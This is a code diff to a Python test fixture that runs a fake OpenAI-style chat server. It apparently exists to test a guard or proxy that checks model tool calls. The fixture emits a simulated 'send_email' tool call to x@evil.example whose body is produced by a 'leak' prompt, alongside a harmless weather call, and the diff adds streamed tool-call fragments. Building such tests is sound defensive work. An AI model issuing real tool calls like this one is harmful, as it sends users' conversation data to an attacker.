@@ -67,17 +67,21 @@ def fake_upstream(requests: list[dict[str, Any]]) -> Starlette:
             return JSONResponse({"error": {"message": "boom"}}, status_code=500)
         text = _reply(body["messages"])
         model = body.get("model", "fake")
-        if not body.get("stream") and "tool" in last:
+        if "tool" in last:
+            secret = "weather" not in last  # "tool ... weather" asks for a harmless call
             call = {
                 "id": "call_1",
                 "type": "function",
                 "function": {
-                    "name": "send_email",
+                    "name": "send_email" if secret else "get_weather",
                     "arguments": '{"to": "x@evil.example", "body": "'
                     + _reply([*body["messages"][:-1], {"role": "user", "content": "leak"}])
-                    + '"}',
+                    + '"}'
+                    if secret
+                    else '{"city": "Lyon"}',
                 },
             }
+        if "tool" in last and not body.get("stream"):
             return JSONResponse({
                 "id": "chatcmpl-fake", "object": "chat.completion", "created": 1, "model": model,
                 "choices": [{"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [call]},
@@ -97,6 +101,26 @@ def fake_upstream(requests: list[dict[str, Any]]) -> Starlette:
                 return ("data: " + json.dumps(body) + "\n\n").encode()
 
             yield chunk({"role": "assistant", "content": ""}, None)
+            if "tool" in last:  # a tool call streamed in fragments, as OpenAI's API does
+                args = call["function"]["arguments"]
+                yield chunk(
+                    {
+                        "tool_calls": [
+                            {
+                                "index": 0,
+                                "id": "call_1",
+                                "type": "function",
+                                "function": {"name": call["function"]["name"], "arguments": ""},
+                            }
+                        ]
+                    },
+                    None,
+                )
+                for i in range(0, len(args), 5):
+                    yield chunk({"tool_calls": [{"index": 0, "function": {"arguments": args[i : i + 5]}}]}, None)
+                yield chunk({}, "tool_calls")
+                yield b"data: [DONE]\n\n"
+                return
             for i in range(0, len(text), 3):
                 yield chunk({"content": text[i : i + 3]}, None)
             yield chunk({}, "stop")
